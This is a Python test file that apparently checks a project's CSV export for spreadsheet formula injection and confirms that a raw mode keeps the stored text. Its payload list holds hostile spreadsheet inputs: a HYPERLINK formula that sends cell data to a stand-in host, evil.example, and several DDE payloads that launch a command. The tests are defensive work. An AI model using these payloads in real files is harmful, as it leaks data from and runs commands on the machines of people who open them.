"""CSV exports neutralise spreadsheet formulas in stored text (issue 12.6); --raw keeps it as stored."""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from riftwatch.records import CodedArticle
from riftwatch.store import Store
from riftwatch.store.synthetic import synthetic_article

_FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _poisoned(text: str, i: int = 0) -> CodedArticle:
    """A stored article whose sentence, trigger, actor names and place name are ``text``."""
    art = synthetic_article(i, 2)
    events = []
    for e in art.events:
        source = tuple(dataclasses.replace(a, name=text) for a in e.source)
        place = dataclasses.replace(e.place, name=text) if e.place else None
        events.append(dataclasses.replace(e, sentence=text, source=source, place=place))
    return dataclasses.replace(art, events=tuple(events))


def _cells(store: Store, raw: bool, what: str = "events") -> list[str]:
    buf = io.StringIO()
    store.export(what, "csv", buf, raw=raw)  # type: ignore[arg-type]
    return [cell for row in list(csv.reader(io.StringIO(buf.getvalue())))[1:] for cell in row]


@pytest.mark.parametrize(
    "payload",
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\uff1d1+1"],
)  # fmt: skip
def test_formulas_are_quoted_and_raw_keeps_them(payload: str) -> None:
    with Store(":memory:") as store:
        store.write_many([_poisoned(payload)])
        safe = _cells(store, raw=False)
        assert "'" + payload in safe and payload not in safe
        assert payload in _cells(store, raw=True)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=st.text(alphabet=st.sampled_from("=+-@\t\r1.e aZ|'\"\uff1d"), min_size=1, max_size=12))
def test_no_exported_cell_starts_a_formula(text: str) -> None:
    with Store(":memory:") as store:
        store.write_many([_poisoned(text)])
        for cell in _cells(store, raw=False):
            if cell.startswith(_FORMULA):
                float(cell)  # only numbers such as -2.5 may start with a sign
